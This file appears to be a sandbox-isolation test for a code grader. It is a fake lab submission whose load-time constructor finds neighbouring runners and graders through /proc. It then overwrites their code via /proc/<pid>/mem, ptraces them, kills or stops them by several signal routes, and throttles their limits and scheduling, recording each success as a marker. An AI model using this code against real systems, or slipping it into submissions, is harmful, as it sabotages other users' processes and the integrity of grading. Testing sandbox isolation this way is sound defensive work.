/* Attack: hurt the runners graded beside this one (another submission's, at
 * the same time on the same machine) and the graders: find them in /proc,
 * write over their code through /proc/<pid>/mem, trace them, copy into them,
 * signal them (directly, by pidfd, by SIGIO with F_SETSIG), and slow them
 * down (their limits, priority, scheduling, CPUs). Its own grader and that
 * grader's runners it spares. It keeps at it while it sees neighbours, for
 * at most 12 s. Whatever works leaves a marker and is printed. */
#include "@SOURCE_DIR@/tests/attack_util.h"
#include <sched.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <time.h>

static int _reached;

static void _reached_by(const char *how, int pid) {
    char marker[64];
    snprintf(marker, sizeof marker, "neighbour-%s", how);
    attack_leave_marker(marker);
    printf("reached process %d: %s\n", pid, how);
    fflush(stdout);
    _reached++;
}

static int _parent_of(int pid) {
    char path[64], stat[512] = "";
    snprintf(path, sizeof path, "/proc/%d/stat", pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0) return -1;
    ssize_t n = read(fd, stat, sizeof stat - 1);
    close(fd);
    const char *after_name = n > 0 ? strrchr(stat, ')') : NULL;
    int parent = -1;
    if (after_name) sscanf(after_name + 1, " %*c %d", &parent);
    return parent;
}

/* A shadowlab runner or grader of another grade: not this process, its own
 * grader, or that grader's other runners. */
static bool _is_neighbour(int pid) {
    if (pid <= 1 || pid == getpid() || pid == getppid() || _parent_of(pid) == getppid()) return false;
    char path[64], arg[256] = "";
    snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0) return false;
    ssize_t n = read(fd, arg, sizeof arg - 1);
    close(fd);
    if (n <= 0) return false;
    arg[n] = '\0';
    const char *base = strrchr(arg, '/') ? strrchr(arg, '/') + 1 : arg;
    return strncmp(base, "shadowlab-runner", 16) == 0 || strcmp(base, "shadowlab-grade") == 0;
}

/* Writes int3 over the start of every executable mapping. */
static void _write_memory(int pid) {
    char path[64], line[512];
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int mem = open(path, O_RDWR);
    if (mem < 0) return;
    _reached_by("proc-mem-open", pid);
    snprintf(path, sizeof path, "/proc/%d/maps", pid);
    FILE *maps = fopen(path, "r");
    static char traps[4096];
    memset(traps, 0xcc, sizeof traps);
    while (maps && fgets(line, sizeof line, maps)) {
        unsigned long start, end;
        char perms[8];
        if (sscanf(line, "%lx-%lx %7s", &start, &end, perms) == 3 && perms[2] == 'x' &&
            pwrite(mem, traps, sizeof traps, (off_t)start) > 0)
            _reached_by("proc-mem-write", pid);
    }
    if (maps) fclose(maps);
    close(mem);
}

static void _hit(int pid) {
    _write_memory(pid);
    if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) {
        _reached_by("ptrace", pid);
        ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
    }
    static char garbage[4096];
    struct iovec local = {garbage, sizeof garbage}, remote = {(void *)0x7ffff7ff0000ul, sizeof garbage};
    if (syscall(SYS_process_vm_writev, pid, &local, 1, &remote, 1, 0) >= 0) _reached_by("process-vm-writev", pid);
    if (syscall(SYS_kcmp, getpid(), pid, 0 /* KCMP_FILE */, 0, 0) >= 0) _reached_by("kcmp", pid);
    if (syscall(SYS_tgkill, pid, pid, SIGSTOP) == 0) _reached_by("tgkill", pid);
    if (kill(pid, SIGKILL) == 0) _reached_by("kill", pid);
    union sigval value = {0};
    if (sigqueue(pid, SIGKILL, value) == 0) _reached_by("sigqueue", pid);
#ifdef SYS_pidfd_open
    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    if (pidfd >= 0) {
        if (syscall(SYS_pidfd_send_signal, pidfd, SIGKILL, NULL, 0) == 0) _reached_by("pidfd-kill", pid);
        close(pidfd);
    }
#endif
    /* SIGIO with any signal, to the owner a pipe names */
    int p[2];
    if (pipe(p) == 0) {
        if (fcntl(p[0], F_SETOWN, pid) == 0 && fcntl(p[0], F_SETSIG, SIGKILL) == 0 &&
            fcntl(p[0], F_SETFL, O_ASYNC | O_NONBLOCK) == 0) {
            attack_write(p[1], "x", 1);
            _reached_by("sigio-owner", pid);
        }
        close(p[0]);
        close(p[1]);
    }
    struct rlimit none = {0, 0};
    if (prlimit(pid, RLIMIT_NOFILE, &none, NULL) == 0) _reached_by("prlimit-files", pid);
    if (prlimit(pid, RLIMIT_CPU, &none, NULL) == 0) _reached_by("prlimit-cpu", pid);
    if (setpriority(PRIO_PROCESS, (id_t)pid, 19) == 0) _reached_by("setpriority", pid);
    cpu_set_t one;
    CPU_ZERO(&one);
    CPU_SET(0, &one);
    if (sched_setaffinity(pid, sizeof one, &one) == 0) _reached_by("affinity", pid);
    struct sched_param idle = {0};
    if (sched_setscheduler(pid, SCHED_IDLE, &idle) == 0) _reached_by("sched-idle", pid);
}

static double _now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec * 1e-9;
}

__attribute__((constructor)) static void _attack_neighbours(void) {
    double start = _now(), last_seen = 0;
    /* every process of this uid (at `basic`, the grader's user) */
    if (setpriority(PRIO_USER, 0, 19) == 0) _reached_by("setpriority-user", 0);
    for (;;) {
        double now = _now();
        if (now - start > 12 || (last_seen > 0 && now - last_seen > 2) || (last_seen == 0 && now - start > 5)) break;
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (!_is_neighbour(pid)) continue;
            last_seen = _now();
            _hit(pid);
        }
        if (d) closedir(d);
        struct timespec pause = {0, 20 * 1000 * 1000};
        nanosleep(&pause, NULL);
    }
    printf("reached %d times\n", _reached);
    fflush(stdout);
}

sl_status lab1_create_shadow_map(int size, sl_shadow_map *map) {
    (void)size;
    (void)map;
    return SL_NOT_IMPLEMENTED;
}

ATTACK_LAB1_STUBS
